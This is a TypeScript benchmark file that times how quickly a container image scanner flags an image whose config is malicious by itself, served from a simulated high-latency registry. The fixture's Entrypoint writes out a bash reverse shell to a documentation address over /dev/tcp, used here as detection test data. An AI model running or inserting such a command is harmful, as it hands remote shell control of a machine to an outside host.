import { runMeasured } from '../measure/run-measured.ts';
import { spreadOf } from '../measure/spread.ts';
import type { Aim } from '../output/aims.ts';
import { sizeText, timeText } from '../output/amounts.ts';
import { generatedLayer } from '../registry/generated-layer.ts';
import { startRegistry } from '../registry/registry.ts';
import { clock, type ServerEvent } from '../registry/server.ts';
import type { Bench, SectionResult } from './section.ts';

/** A config that proves malice by itself: a shell whose input and output are a socket (RFC 5737 address). */
const run = { Entrypoint: ['/bin/sh', '-c', "bash -c 'bash -i >& /dev/tcp/192.0.2.44/8443 0>&1'"] };
/** Before each answer: a registry on another continent. */
const latency = 100;

/** One run: times in milliseconds; `layer` says what became of the layer's download. */
interface Run {
  readonly name: string;
  /** From sending the config to the finding on the screen; `undefined` when it was never shown. */
  readonly afterConfig: number | undefined;
  /** Whether the finding was on the screen before the layer was asked for. */
  readonly first: boolean;
  readonly total: number;
  readonly layer: 'not sent' | 'aborted' | 'read to its end';
}

/** From the config's arrival to the finding on the screen, with a big layer still to come. */
export async function firstFindingSection(bench: Bench): Promise<SectionResult> {
  const runs: Run[] = [];
  for (const flags of [[], ['--stop-at', 'malicious']]) {
    for (let turn = 0; turn < bench.arguments.runs; turn += 1) {
      bench.say(`first finding: ${['scan', ...flags].join(' ')}, run ${turn + 1}`);
      runs.push(await once(bench, flags));
    }
  }
  const times = runs.map((run) => run.afterConfig ?? Number.POSITIVE_INFINITY);
  const stopped = runs.filter((run) => run.name !== 'scan');
  return {
    tables: [
      {
        title: `First finding: the config proves it, ${latency} ms before each answer`,
        columns: ['command', 'config sent to finding shown', 'aim', 'before any layer byte', 'whole command', 'layer'],
        rows: runs.map(({ name, afterConfig, first, total, layer }) => [
          name,
          afterConfig === undefined ? 'never shown' : timeText(afterConfig),
          '≤ 50 ms',
          first ? 'yes' : 'no',
          timeText(total),
          layer,
        ]),
        notes: [`one row a run; the image has a layer of ${sizeText(layerBytes(bench))}`],
      },
    ],
    aims: [
      aim(
        'config sent to first finding shown',
        timeText(spreadOf(times).median),
        '≤ 50 ms',
        spreadOf(times).median <= 50,
      ),
      aim('first finding before any layer byte', ...yesOrNo(runs.every((run) => run.first))),
      aim('--stop-at malicious reads no layer', ...yesOrNo(stopped.every((run) => run.layer !== 'read to its end'))),
    ],
    data: runs,
  };
}

function aim(what: string, measured: string, wanted: string, holds: boolean): Aim {
  return { what, measured, aim: wanted, holds };
}

function yesOrNo(holds: boolean): [string, string, boolean] {
  return [holds ? 'yes' : 'no', 'yes', holds];
}

function layerBytes(bench: Bench): number {
  return bench.arguments.quick ? 20e6 : 500e6;
}

async function once(bench: Bench, flags: readonly string[]): Promise<Run> {
  const layer = await generatedLayer(bench, { kind: 'mixed', bytes: layerBytes(bench), seed: 5, code: 'usual' });
  const registry = await startRegistry({ run, layers: [layer], latency });
  try {
    let shown: number | undefined;
    let output = '';
    const onOutput = (text: string): void => {
      output += text;
      if (shown === undefined && /malicious/i.test(output)) shown = clock();
    };
    const command = [...bench.product.command, 'scan', '--no-cache', ...flags, registry.reference];
    const { wall, status } = await runMeasured(command, { onOutput });
    if (status !== 1) throw new Error(`the image was not found malicious: ${status}, ${output.slice(0, 300)}`);
    return { name: ['scan', ...flags].join(' '), total: wall, ...read(registry.events, shown) };
  } finally {
    await registry.stop();
  }
}

function read(events: readonly ServerEvent[], shown: number | undefined): Pick<Run, 'afterConfig' | 'first' | 'layer'> {
  const at = (what: ServerEvent['what']): number | undefined => events.find((event) => event.what === what)?.at;
  const [config, asked] = [at('config'), at('layer')];
  return {
    afterConfig: shown === undefined || config === undefined ? undefined : shown - config,
    first: shown !== undefined && (asked === undefined || shown <= asked),
    layer: asked === undefined ? 'not sent' : at('layer-done') === undefined ? 'aborted' : 'read to its end',
  };
}
